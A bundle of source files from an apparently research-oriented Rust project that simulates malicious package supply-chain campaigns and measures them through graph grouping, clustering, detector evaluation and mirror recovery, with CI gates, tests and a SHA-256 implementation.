echo "== kernel_bench --quick"
cargo run --release -q -p malgraph-bench --bin kernel_bench -- --quick

# The analysis-harness gates (PR 7), run explicitly for the same reason:
#  * analysis_equivalence — every experiment and extension section from
#    the indexed path (serial, 7-thread, and warm rerun) is byte-identical
#    to the uncached serial reference;
#  * analyze_bench --quick — the same identity asserted on a fresh
#    release-mode run before any speedup number is written.
echo "== cargo test -q -p malgraph-bench --test analysis_equivalence"
cargo test -q -p malgraph-bench --test analysis_equivalence
echo "== analyze_bench --quick"
cargo run --release -q -p malgraph-bench --bin analyze_bench -- --quick

# The incremental-ingestion gates (PR 8), run explicitly for the same
# reason:
#  * ingest_equivalence — a graph grown window by window through
#    apply_delta reproduces every analysis section byte-identically to a
#    one-shot build over the union (serial on extended caches, 7-thread
#    on cold ones), and the ingest.* invalidation counters match the
#    cache matrix exactly;
#  * ingest_bench --quick — the same node-for-node/edge-for-edge identity
#    asserted on a fresh release-mode run before any speedup is written.
echo "== cargo test -q -p malgraph-bench --test ingest_equivalence"
cargo test -q -p malgraph-bench --test ingest_equivalence
echo "== ingest_bench --quick"
cargo run --release -q -p malgraph-bench --bin ingest_bench -- --quick

# The crash-recovery gates (PR 10), run explicitly for the same reason:
#  * crash_recovery — the deterministic crash-fault injection matrix:
#    every named crash point × {1, 7} similarity threads × {clean
#    resume, corrupted-latest-checkpoint fallback} resumes to a graph
#    byte-identical to an uninterrupted build, with the recovery.*
#    counters matching a prediction derived purely from on-disk state;
#  * recovery_bench --quick — a staged final-window crash resumed
#    end-to-end, identity asserted against the cold rebuild before any
#    time is written to BENCH_PR10_quick.json.
echo "== cargo test -q -p malgraph-bench --test crash_recovery"
cargo test -q -p malgraph-bench --test crash_recovery
echo "== recovery_bench --quick"
cargo run --release -q -p malgraph-bench --bin recovery_bench -- --quick

# The profiling gate (PR 9): the folded self-time profile of the full
# pipeline (world → collect → build → 23 analysis sections) is
# byte-identical at 1 and 7 worker threads under a fake clock — span
# contexts propagate into workers and lazy caches detach their spans, so
# profiles are golden-testable.
echo "== cargo test -q -p malgraph-bench --test profile_equivalence"
cargo test -q -p malgraph-bench --test profile_equivalence

# The perf-regression gate (PR 9): the quick benches above rewrote
# BENCH_PR{6,7,8}_quick.json on this machine; diff each against its
# checked-in baseline with `malgraph perf diff` and fail on regression.
# Thresholds are deliberately generous (+50% relative AND +250 ms
# absolute, both must be exceeded) — this gate catches real regressions,
# not machine-to-machine variance; the sentinel's 10% sensitivity is
# asserted by the obs::baseline unit tests and the CLI suite. After an
# intentional perf change, regenerate the baselines with:
#   MALGRAPH_PERF_ACCEPT=1 ./ci.sh
echo "== perf_gate (malgraph perf diff vs baselines/)"
cargo build --release -q --bin malgraph
for bench in BENCH_PR6_quick BENCH_PR7_quick BENCH_PR8_quick BENCH_PR10_quick; do
    if [[ "${MALGRAPH_PERF_ACCEPT:-}" == "1" ]]; then
        cp "$bench.json" "baselines/$bench.json"
        echo "perf_gate: accepted $bench.json as the new baseline"
    else
        ./target/release/malgraph perf diff "baselines/$bench.json" "$bench.json" \
            --threshold 0.50 --floor-us 250000
    fi
done

echo "CI OK"
