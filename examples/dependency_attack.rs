//! Dependency attacks (paper Fig. 7): a benign-looking front package
//! declares a malicious library as its dependency; installing the front
//! pulls the payload. This example finds every DeG group in the corpus
//! and walks through the attack chain.
//!
//! ```text
//! cargo run --example dependency_attack --release
//! ```

use malgraph::prelude::*;

fn main() {
    let world = World::generate(WorldConfig::small(777));
    let corpus = collect(&world);
    let graph = build(&corpus, &BuildOptions::default());

    let groups = graph.groups(Relation::Dependency);
    println!("dependency (DeG) groups found: {}", groups.len());

    for (i, group) in groups.iter().enumerate() {
        println!("\n== DeG group {i} ({} packages)", group.len());
        for &node_id in group {
            let node = graph.graph.node(node_id);
            let deps: Vec<String> = graph
                .graph
                .out_edges(node_id)
                .iter()
                .filter(|(_, l)| *l == Relation::Dependency)
                .map(|(t, _)| graph.graph.node(*t).package.to_string())
                .collect();
            if deps.is_empty() {
                println!("  library  {}  (the hidden payload)", node.package);
            } else {
                println!("  front    {}  → depends on {}", node.package, deps.join(", "));
            }
        }
        // The paper's key observation: the front looks benign, so only
        // the library's code carries an install-time hook.
        for &node_id in group {
            let node = graph.graph.node(node_id);
            if let Some(pkg) = corpus.get(&node.package) {
                if let Some(archive) = &pkg.archive {
                    let hook = archive.code.contains("try:");
                    println!(
                        "  code of {}: {} lines, install hook: {}",
                        node.package,
                        archive.code.lines().count(),
                        if hook { "YES" } else { "no" }
                    );
                }
            }
        }
    }

    // DeG campaigns have the longest active periods (Fig. 9).
    let deg = malgraph::malgraph_core::analysis::campaign::active_periods(
        &graph,
        &corpus,
        Relation::Dependency,
    );
    let sg = malgraph::malgraph_core::analysis::campaign::active_periods(
        &graph,
        &corpus,
        Relation::Similar,
    );
    let mean_days =
        |v: &[SimDuration]| v.iter().map(|d| d.as_days_f64()).sum::<f64>() / v.len().max(1) as f64;
    println!(
        "\nmean active period: DeG {:.0} days vs SG {:.0} days (paper: DeG is longest)",
        mean_days(&deg),
        mean_days(&sg)
    );
}
