//! Quickstart: generate a world, collect the corpus, build MALGRAPH, and
//! print the headline numbers of every analysis.
//!
//! ```text
//! cargo run --example quickstart --release
//! ```

use malgraph::malgraph_core::analysis::{diversity, evolution, quality};
use malgraph::prelude::*;

fn main() {
    // A 5%-scale world: ~1,000 packages across 10 sources. Seeds make
    // every run identical.
    let world = World::generate(WorldConfig::small(2024));
    println!(
        "world: {} packages, {} campaigns, {} reports",
        world.packages.len(),
        world.campaigns.len(),
        world.reports.len()
    );

    // The collection pipeline of paper §II: source feeds, keyword
    // filtering, mention extraction, mirror recovery.
    let corpus = collect(&world);
    let available = corpus.packages.iter().filter(|p| p.is_available()).count();
    println!(
        "corpus: {} distinct packages, {} with artifacts ({} recovered from mirrors)",
        corpus.packages.len(),
        available,
        corpus
            .packages
            .iter()
            .filter(|p| p.recovered_from_mirror)
            .count()
    );

    // MALGRAPH (§III): four relations over package/source nodes.
    let graph = build(&corpus, &BuildOptions::default());
    for relation in [
        Relation::Duplicated,
        Relation::Dependency,
        Relation::Similar,
        Relation::Coexisting,
    ] {
        let stats = graph.relation_stats(relation);
        println!(
            "{:<4} {:>6} nodes {:>8} edges (avg degree {:.2})",
            relation.group_label(),
            stats.nodes,
            stats.edges,
            stats.avg_out_degree
        );
    }

    // RQ1: data quality.
    let (_, overall_mr) = quality::missing_rates(&corpus);
    println!("overall missing rate: {overall_mr:.1}% (paper: 64.1%)");

    // RQ2: diversity.
    for row in diversity::table7(&graph) {
        println!(
            "{:<9} SG {} groups (avg {:.1})",
            row.ecosystem.display_name(),
            row.sg.groups,
            row.sg.avg_size
        );
    }

    // RQ4: the changing-operation distribution.
    let sequences = evolution::release_sequences(&graph, &corpus);
    let dist = evolution::op_distribution(&sequences);
    println!(
        "ops across {} re-releases: CN {:.1}% CV {:.1}% CD {:.1}% CDep {:.1}% CC {:.1}%",
        dist.attempts,
        dist.pct_of(ChangeOp::ChangeName),
        dist.pct_of(ChangeOp::ChangeVersion),
        dist.pct_of(ChangeOp::ChangeDescription),
        dist.pct_of(ChangeOp::ChangeDependency),
        dist.pct_of(ChangeOp::ChangeCode),
    );
}
