//! The similarity pipeline in isolation (paper §III-A): source code →
//! AST → embedding → K-Means → similar groups, demonstrated on a corpus
//! of known lineages so the grouping quality is visible.
//!
//! ```text
//! cargo run --example similarity_clustering --release
//! ```

use malgraph::cluster::metrics::adjusted_rand_index;
use malgraph::minilang::gen::{generate, mutate, Behavior, Mutation};
use malgraph::minilang::printer::print_module;
use malgraph::prelude::*;
use malgraph::malgraph_core::similar_pairs;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

fn main() {
    // Build 12 lineages: each starts from a fresh malicious module and
    // re-releases it with small mutations, exactly like a similar-attack
    // campaign.
    let mut rng = StdRng::seed_from_u64(42);
    let mut entries: Vec<(PackageId, String)> = Vec::new();
    let mut truth: Vec<usize> = Vec::new();
    for lineage in 0..12usize {
        let behavior = Behavior::ALL[lineage % Behavior::ALL.len()];
        let mut module = generate(behavior, &mut rng);
        let members = rng.gen_range(4..=9);
        for m in 0..members {
            if m > 0 && rng.gen_bool(0.5) {
                let mutation = Mutation::ALL[rng.gen_range(0..Mutation::ALL.len())];
                module = mutate(&module, mutation, &mut rng);
            }
            let id: PackageId = format!("pypi/lineage{lineage}-v{m}@1.0.0")
                .parse()
                .expect("valid id");
            entries.push((id, print_module(&module)));
            truth.push(lineage);
        }
    }
    println!("corpus: {} packages from 12 lineages", entries.len());

    let borrowed: Vec<(PackageId, &str)> = entries
        .iter()
        .map(|(i, s)| (i.clone(), s.as_str()))
        .collect();
    let config = SimilarityConfig::default();
    let out = similar_pairs(&borrowed, &config);
    println!(
        "pipeline: chose k = {} after trying {:?}",
        out.chosen_k,
        out.trace.iter().map(|(k, _)| *k).collect::<Vec<_>>()
    );

    // Components of the similar pairs = the SGs.
    let mut uf = malgraph::graphstore::unionfind::UnionFind::new(entries.len());
    for &(a, b) in &out.pairs {
        uf.union(a, b);
    }
    let mut groups: std::collections::BTreeMap<usize, Vec<usize>> = Default::default();
    for i in 0..entries.len() {
        groups.entry(uf.find(i)).or_default().push(i);
    }
    let labels: Vec<usize> = (0..entries.len()).map(|i| uf.find(i)).collect();
    println!("groups recovered: {}", groups.values().filter(|g| g.len() > 1).count());
    for (root, members) in groups.iter().filter(|(_, g)| g.len() > 1) {
        let lineages: std::collections::BTreeSet<usize> =
            members.iter().map(|&i| truth[i]).collect();
        println!(
            "  group@{root}: {} members from lineage(s) {:?}",
            members.len(),
            lineages
        );
    }

    let ari = adjusted_rand_index(&truth, &labels);
    println!("adjusted Rand index vs. ground truth: {ari:.3} (1.0 = perfect)");
}
