//! Detector evaluation (the quantified form of the paper's finding 2):
//! "despite the sheer volume of SSC attack campaigns, many malicious
//! packages are similar, and … today's defense tools work well because
//! malicious packages use old and known attack behaviors."
//!
//! Runs a GuardDog-style static scanner and a sandbox (effect-tracing)
//! detector over every package in a simulated world and scores them
//! against ground truth.
//!
//! ```text
//! cargo run --example detector_eval --release
//! ```

use malgraph::detector::{evaluate_world, DynamicDetector, StaticDetector};
use malgraph::minilang::parse;
use malgraph::prelude::*;

fn main() {
    let world = World::generate(WorldConfig::small(4242));
    println!(
        "evaluating detectors over {} packages ({} malicious)…\n",
        world.packages.len(),
        world.packages.iter().filter(|p| p.behavior.is_some()).count()
    );

    let report = evaluate_world(&world);
    println!("{report}\n");

    // Walk one concrete case end to end.
    let sample = world
        .packages
        .iter()
        .find(|p| p.behavior.is_some())
        .expect("malicious packages exist");
    println!("== case study: {}", sample.id);
    println!(
        "ground truth: {} campaign package",
        sample
            .behavior
            .map(|b| b.label())
            .unwrap_or("benign")
    );
    let module = parse(&sample.source_text).expect("generated code parses");

    let sv = StaticDetector::default().scan(&module, Some(sample.id.name()));
    println!(
        "static scanner: malicious={} score={:.1} rules={:?}",
        sv.malicious,
        sv.score,
        sv.matched.iter().map(|r| r.label()).collect::<Vec<_>>()
    );

    let dv = DynamicDetector::default().analyze(&module);
    println!(
        "sandbox: labels={:?} apis={:?}",
        dv.labels.iter().map(|l| l.to_string()).collect::<Vec<_>>(),
        dv.apis
    );
}
