//! Campaign forensics: reconstruct an attack campaign from security
//! reports, the way the paper traces the August-2023 npm campaign
//! (Fig. 8) and the Lolip0p PyPI campaign.
//!
//! ```text
//! cargo run --example campaign_forensics --release
//! ```

use malgraph::malgraph_core::analysis::campaign;
use malgraph::prelude::*;

fn main() {
    let world = World::generate(WorldConfig::small(31337));
    let corpus = collect(&world);
    let graph = build(&corpus, &BuildOptions::default());

    // The showcase campaign seeds five names straight from the paper.
    let member: PackageId = "npm/etc-crypto@1.0.0".parse().expect("valid id");
    let timeline = campaign::campaign_timeline(&graph, &corpus, &member);
    println!("== campaign containing {member}");
    println!("{} packages, release timeline:", timeline.len());
    for entry in &timeline {
        let (y, m, d) = entry.released.to_ymd();
        println!("  {y:04}-{m:02}-{d:02}  {}", entry.package);
    }

    // Which reports disclosed it, and did they name the actor?
    println!("\n== disclosing reports");
    for report in &corpus.reports {
        if report.packages.iter().any(|p| p.name() == member.name()) {
            println!(
                "  [{}] {} — {}{}",
                report.category,
                report.website,
                report.title,
                report
                    .actor
                    .as_deref()
                    .map(|a| format!(" (actor: {a})"))
                    .unwrap_or_default()
            );
        }
    }

    // Active-period context: where does this campaign sit in the Fig. 9
    // distribution?
    let periods = campaign::active_periods(&graph, &corpus, Relation::Coexisting);
    if let (Some(first), Some(last)) = (timeline.first(), timeline.last()) {
        let span = last.released - first.released;
        let shorter = periods.iter().filter(|&&p| p <= span).count();
        println!(
            "\ncampaign active period: {} — longer than {:.0}% of all CG campaigns",
            span,
            100.0 * shorter as f64 / periods.len().max(1) as f64
        );
    }
}
