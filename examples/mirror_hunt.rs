//! Mirror hunting (paper §II-C / Fig. 5): removed packages can often be
//! recovered from mirror registries that lag the root registry. This
//! example quantifies the recovery rate, the two failure causes, and how
//! the mirror sync interval changes the outcome.
//!
//! ```text
//! cargo run --example mirror_hunt --release
//! ```

use malgraph::malgraph_core::analysis::quality;
use malgraph::prelude::*;

fn main() {
    let world = World::generate(WorldConfig::small(555));
    let corpus = collect(&world);

    let total = corpus.packages.len();
    let from_dumps = corpus
        .packages
        .iter()
        .filter(|p| p.is_available() && !p.recovered_from_mirror)
        .count();
    let from_mirrors = corpus
        .packages
        .iter()
        .filter(|p| p.recovered_from_mirror)
        .count();
    let missing = total - from_dumps - from_mirrors;
    println!("corpus: {total} packages");
    println!("  shipped by source dumps : {from_dumps}");
    println!("  recovered from mirrors  : {from_mirrors}");
    println!("  unavailable             : {missing} ({:.1}%)", 100.0 * missing as f64 / total as f64);

    // Why the misses? (Fig. 5's two causes, measured from registry
    // metadata.)
    let fastest = world
        .mirrors
        .fastest_interval(Ecosystem::PyPI)
        .map(|d| d.as_hours())
        .unwrap_or(6);
    let census = quality::unavailability_census(
        &corpus,
        world.config.mirror_retention_days,
        fastest,
    );
    println!("\nunavailability causes:");
    println!("  released too early    : {}", census.released_too_early);
    println!("  persistence too short : {}", census.persistence_too_short);
    println!("  ecosystem w/o mirrors : {}", census.no_mirrors);

    // Sweep the mirror retention period: longer retention keeps stale
    // copies of old packages alive and the missing rate drops.
    println!("\nretention sweep (fresh small worlds):");
    println!("{:>10} {:>10}", "retention", "missing%");
    for retention_days in [60u64, 180, 400, 800, 1600] {
        let config = WorldConfig {
            seed: 555,
            mirror_retention_days: retention_days,
            ..WorldConfig::default()
        };
        let w = World::generate(config);
        let candidates = w.dataset_candidates();
        let missing = candidates
            .iter()
            .filter(|&&i| !w.package(i).mirror_available)
            .count();
        println!(
            "{:>9}d {:>9.1}%",
            retention_days,
            100.0 * missing as f64 / candidates.len() as f64
        );
    }
}
