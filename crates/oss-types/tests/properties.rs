//! Property-based tests for the domain types.

use oss_types::hash::Sha256Hasher;
use oss_types::name::{levenshtein, levenshtein_bounded};
use oss_types::{ChangeOp, OpSet, PackageId, Sha256, SimDuration, SimTime, Version};
use proptest::prelude::*;

fn arb_version() -> impl Strategy<Value = Version> {
    (0u32..50, 0u32..50, 0u32..50).prop_map(|(a, b, c)| Version::new(a, b, c))
}

proptest! {
    #[test]
    fn version_display_parse_round_trip(v in arb_version()) {
        let parsed: Version = v.to_string().parse().expect("display is parseable");
        prop_assert_eq!(parsed, v);
    }

    #[test]
    fn version_ordering_matches_tuple_ordering(a in arb_version(), b in arb_version()) {
        let ta = (a.major(), a.minor(), a.patch());
        let tb = (b.major(), b.minor(), b.patch());
        prop_assert_eq!(a.cmp(&b), ta.cmp(&tb));
    }

    #[test]
    fn version_bumps_strictly_increase(v in arb_version()) {
        prop_assert!(v.bump_patch() > v);
        prop_assert!(v.bump_minor() > v);
        prop_assert!(v.bump_major() > v.bump_minor());
    }

    #[test]
    fn package_id_round_trips(
        name in "[a-z][a-z0-9-]{0,20}",
        v in arb_version(),
        eco_idx in 0usize..10,
    ) {
        let eco = oss_types::Ecosystem::ALL[eco_idx];
        let id = PackageId::new(eco, name.parse().unwrap(), v);
        let parsed: PackageId = id.to_string().parse().expect("round trip");
        prop_assert_eq!(parsed, id);
    }

    #[test]
    fn sha256_incremental_equals_oneshot(data in proptest::collection::vec(any::<u8>(), 0..512), split in 0usize..512) {
        let split = split.min(data.len());
        let mut h = Sha256Hasher::new();
        h.update(&data[..split]);
        h.update(&data[split..]);
        prop_assert_eq!(h.finalize(), Sha256::digest(&data));
    }

    #[test]
    fn sha256_is_injective_on_small_perturbations(data in proptest::collection::vec(any::<u8>(), 1..128), flip in 0usize..128) {
        let flip = flip.min(data.len() - 1);
        let mut other = data.clone();
        other[flip] ^= 0xff;
        prop_assert_ne!(Sha256::digest(&data), Sha256::digest(&other));
    }

    #[test]
    fn opset_behaves_like_a_set(ops in proptest::collection::vec(0usize..5, 0..12)) {
        let mut set = OpSet::empty();
        let mut reference = std::collections::BTreeSet::new();
        for &i in &ops {
            let op = ChangeOp::ALL[i];
            prop_assert_eq!(set.insert(op), reference.insert(op));
        }
        prop_assert_eq!(set.len(), reference.len());
        for op in ChangeOp::ALL {
            prop_assert_eq!(set.contains(op), reference.contains(&op));
        }
        let collected: Vec<ChangeOp> = set.iter().collect();
        prop_assert_eq!(collected.len(), set.len());
    }

    #[test]
    fn bounded_levenshtein_agrees_with_naive(
        a in "[a-z0-9._-]{0,12}",
        b in "[a-z0-9._-]{0,12}",
        bound in 0usize..4,
    ) {
        let exact = levenshtein(&a, &b);
        let banded = levenshtein_bounded(&a, &b, bound);
        if exact <= bound {
            prop_assert_eq!(banded, Some(exact));
        } else {
            prop_assert_eq!(banded, None);
        }
    }

    #[test]
    fn bounded_levenshtein_close_pairs_round_trip(
        base in "[a-z]{2,10}",
        edit in 0usize..3,
        pos in 0usize..10,
    ) {
        // Mutate `base` by at most two single-character edits and check
        // the census bound (2) finds the exact distance.
        let mut s: Vec<u8> = base.clone().into_bytes();
        for step in 0..edit {
            let p = (pos + step) % s.len().max(1);
            match step % 3 {
                0 => s[p] = if s[p] == b'z' { b'a' } else { s[p] + 1 },
                1 => s.insert(p, b'x'),
                _ => { s.remove(p.min(s.len() - 1)); }
            }
        }
        let mutated = String::from_utf8(s).unwrap();
        let exact = levenshtein(&base, &mutated);
        prop_assert!(exact <= 2 * edit);
        prop_assert_eq!(levenshtein_bounded(&base, &mutated, 2),
                        (exact <= 2).then_some(exact));
    }

    #[test]
    fn simtime_addition_is_associative(base in 0u64..3_000_000, a in 0u64..100_000, b in 0u64..100_000) {
        let t = SimTime::from_minutes(base);
        let left = (t + SimDuration::minutes(a)) + SimDuration::minutes(b);
        let right = t + (SimDuration::minutes(a) + SimDuration::minutes(b));
        prop_assert_eq!(left, right);
    }

    #[test]
    fn simtime_since_inverts_addition(base in 0u64..3_000_000, d in 0u64..500_000) {
        let t = SimTime::from_minutes(base);
        let later = t + SimDuration::minutes(d);
        prop_assert_eq!((later - t).as_minutes(), d);
        prop_assert_eq!((t - later).as_minutes(), 0, "saturating backwards");
    }

    #[test]
    fn calendar_ordering_matches_minute_ordering(a in 0u64..4_000_000, b in 0u64..4_000_000) {
        let (ta, tb) = (SimTime::from_minutes(a), SimTime::from_minutes(b));
        prop_assert_eq!(ta.cmp(&tb), a.cmp(&b));
        if a <= b {
            let (ya, ma, da) = ta.to_ymd();
            let (yb, mb, db) = tb.to_ymd();
            prop_assert!((ya, ma, da) <= (yb, mb, db));
        }
    }
}
