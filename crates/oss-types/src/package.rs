//! Package versions and identities.

use crate::ecosystem::Ecosystem;
use crate::error::ParseError;
use crate::name::PackageName;
use std::fmt;
use std::str::FromStr;

/// A semver-style package version: `major.minor.patch` with an optional
/// pre-release tag (`1.2.3-beta`).
///
/// All ten ecosystems in the study use versions that fit this shape (the
/// simulator only ever emits such versions), and ordering follows semver:
/// numeric components first, a pre-release sorting *before* the same
/// numeric version.
///
/// # Examples
///
/// ```
/// use oss_types::Version;
///
/// let a: Version = "1.2.3".parse()?;
/// let b: Version = "1.10.0".parse()?;
/// assert!(a < b);
/// let pre: Version = "1.2.3-rc1".parse()?;
/// assert!(pre < a);
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Version {
    major: u32,
    minor: u32,
    patch: u32,
    pre: Option<String>,
}

impl Version {
    /// Constructs a release version.
    pub fn new(major: u32, minor: u32, patch: u32) -> Self {
        Version {
            major,
            minor,
            patch,
            pre: None,
        }
    }

    /// Constructs a pre-release version such as `1.2.3-beta`.
    pub fn with_pre(major: u32, minor: u32, patch: u32, pre: impl Into<String>) -> Self {
        Version {
            major,
            minor,
            patch,
            pre: Some(pre.into()),
        }
    }

    /// Major component.
    pub fn major(&self) -> u32 {
        self.major
    }

    /// Minor component.
    pub fn minor(&self) -> u32 {
        self.minor
    }

    /// Patch component.
    pub fn patch(&self) -> u32 {
        self.patch
    }

    /// Pre-release tag, if any.
    pub fn pre(&self) -> Option<&str> {
        self.pre.as_deref()
    }

    /// The next patch version (`1.2.3` → `1.2.4`), dropping any
    /// pre-release tag. This is the *changing version* (CV) operation an
    /// attacker applies between release attempts.
    pub fn bump_patch(&self) -> Version {
        Version::new(self.major, self.minor, self.patch + 1)
    }

    /// The next minor version (`1.2.3` → `1.3.0`).
    pub fn bump_minor(&self) -> Version {
        Version::new(self.major, self.minor + 1, 0)
    }

    /// The next major version (`1.2.3` → `2.0.0`).
    pub fn bump_major(&self) -> Version {
        Version::new(self.major + 1, 0, 0)
    }
}

impl Default for Version {
    /// `1.0.0`, the most common first release of a malicious package.
    fn default() -> Self {
        Version::new(1, 0, 0)
    }
}

impl PartialOrd for Version {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Version {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.major, self.minor, self.patch)
            .cmp(&(other.major, other.minor, other.patch))
            .then_with(|| match (&self.pre, &other.pre) {
                (None, None) => std::cmp::Ordering::Equal,
                // Pre-release sorts before the release it precedes.
                (Some(_), None) => std::cmp::Ordering::Less,
                (None, Some(_)) => std::cmp::Ordering::Greater,
                (Some(a), Some(b)) => a.cmp(b),
            })
    }
}

impl fmt::Display for Version {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}.{}.{}", self.major, self.minor, self.patch)?;
        if let Some(pre) = &self.pre {
            write!(f, "-{pre}")?;
        }
        Ok(())
    }
}

impl FromStr for Version {
    type Err = ParseError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (core, pre) = match s.split_once('-') {
            Some((core, pre)) => (core, Some(pre)),
            None => (s, None),
        };
        if let Some(pre) = pre {
            if pre.is_empty() {
                return Err(ParseError::new("version", s, "empty pre-release tag"));
            }
            if !pre
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'.')
            {
                return Err(ParseError::new("version", s, "invalid pre-release tag"));
            }
        }
        let parts: Vec<&str> = core.split('.').collect();
        if parts.len() != 3 {
            return Err(ParseError::new("version", s, "expected major.minor.patch"));
        }
        let parse = |p: &str| -> Result<u32, ParseError> {
            if p.is_empty() || (p.len() > 1 && p.starts_with('0')) {
                return Err(ParseError::new("version", s, "bad numeric component"));
            }
            p.parse()
                .map_err(|_| ParseError::new("version", s, "bad numeric component"))
        };
        Ok(Version {
            major: parse(parts[0])?,
            minor: parse(parts[1])?,
            patch: parse(parts[2])?,
            pre: pre.map(str::to_owned),
        })
    }
}

/// The identity of one package *release*: ecosystem + name + version.
///
/// This triple is what a security report discloses even when the artifact
/// itself has been removed, and is the node key in MALGRAPH.
///
/// # Examples
///
/// ```
/// use oss_types::{Ecosystem, PackageId};
///
/// let id: PackageId = "npm/brock-loader@1.9.9".parse()?;
/// assert_eq!(id.ecosystem(), Ecosystem::Npm);
/// assert_eq!(id.name().as_str(), "brock-loader");
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct PackageId {
    ecosystem: Ecosystem,
    name: PackageName,
    version: Version,
}

impl PackageId {
    /// Constructs a package identity.
    pub fn new(ecosystem: Ecosystem, name: PackageName, version: Version) -> Self {
        PackageId {
            ecosystem,
            name,
            version,
        }
    }

    /// The registry ecosystem this release was published to.
    pub fn ecosystem(&self) -> Ecosystem {
        self.ecosystem
    }

    /// The package name.
    pub fn name(&self) -> &PackageName {
        &self.name
    }

    /// The release version.
    pub fn version(&self) -> &Version {
        &self.version
    }

    /// Identity of a different version of the same package.
    pub fn with_version(&self, version: Version) -> PackageId {
        PackageId::new(self.ecosystem, self.name.clone(), version)
    }
}

impl fmt::Display for PackageId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}/{}@{}",
            self.ecosystem.slug(),
            self.name,
            self.version
        )
    }
}

impl FromStr for PackageId {
    type Err = ParseError;

    /// Parses `ecosystem/name@version`.
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (eco, rest) = s
            .split_once('/')
            .ok_or_else(|| ParseError::new("package id", s, "missing '/'"))?;
        let (name, version) = rest
            .rsplit_once('@')
            .ok_or_else(|| ParseError::new("package id", s, "missing '@'"))?;
        Ok(PackageId::new(
            eco.parse()?,
            name.parse()?,
            version.parse()?,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn version_parse_and_display_round_trip() {
        for v in ["0.0.1", "1.2.3", "10.20.30", "3.2.0", "1.9.9", "1.0.0-rc1"] {
            let parsed: Version = v.parse().unwrap();
            assert_eq!(parsed.to_string(), v);
        }
    }

    #[test]
    fn version_rejects_malformed() {
        for v in ["", "1", "1.2", "1.2.3.4", "1..3", "01.2.3", "1.2.x", "1.2.3-"] {
            assert!(v.parse::<Version>().is_err(), "{v:?} should be rejected");
        }
    }

    #[test]
    fn version_ordering_is_numeric_not_lexicographic() {
        let a: Version = "1.9.0".parse().unwrap();
        let b: Version = "1.10.0".parse().unwrap();
        assert!(a < b);
    }

    #[test]
    fn prerelease_sorts_before_release() {
        let rc: Version = "2.0.0-rc1".parse().unwrap();
        let rel: Version = "2.0.0".parse().unwrap();
        let older: Version = "1.9.9".parse().unwrap();
        assert!(rc < rel);
        assert!(older < rc);
    }

    #[test]
    fn bumps() {
        let v = Version::new(1, 2, 3);
        assert_eq!(v.bump_patch().to_string(), "1.2.4");
        assert_eq!(v.bump_minor().to_string(), "1.3.0");
        assert_eq!(v.bump_major().to_string(), "2.0.0");
        let pre = Version::with_pre(1, 2, 3, "beta");
        assert_eq!(pre.bump_patch().pre(), None);
    }

    #[test]
    fn package_id_round_trip() {
        let id: PackageId = "pypi/pygrata-utils@0.1.0".parse().unwrap();
        assert_eq!(id.to_string(), "pypi/pygrata-utils@0.1.0");
        assert_eq!(id.ecosystem(), Ecosystem::PyPI);
        assert_eq!(id.version(), &Version::new(0, 1, 0));
    }

    #[test]
    fn package_id_rejects_malformed() {
        for s in ["", "pypi/noversion", "name@1.0.0", "conda/x@1.0.0", "npm/Bad Name@1.0.0"] {
            assert!(s.parse::<PackageId>().is_err(), "{s:?} should be rejected");
        }
    }

    #[test]
    fn with_version_keeps_name_and_ecosystem() {
        let id: PackageId = "npm/etc-crypto@1.0.0".parse().unwrap();
        let next = id.with_version(id.version().bump_patch());
        assert_eq!(next.to_string(), "npm/etc-crypto@1.0.1");
    }

    #[test]
    fn default_version_is_one_oh_oh() {
        assert_eq!(Version::default().to_string(), "1.0.0");
    }
}
