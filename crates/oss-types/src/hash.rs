//! SHA-256 artifact signatures, implemented from scratch.
//!
//! The paper's prototype computes package signatures with Python's
//! `hashlib` (§III-C) and uses them for the *duplicated* edge: two nodes
//! with the same signature are the same package seen through different
//! sources. No hashing crate is on the approved dependency list, so this
//! module carries a self-contained FIPS 180-4 SHA-256.

use std::fmt;

const H0: [u32; 8] = [
    0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19,
];

const K: [u32; 64] = [
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
];

/// A 256-bit SHA-256 digest used as a package signature.
///
/// # Examples
///
/// ```
/// use oss_types::Sha256;
///
/// let d = Sha256::digest(b"abc");
/// assert_eq!(
///     d.to_string(),
///     "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
/// );
/// ```
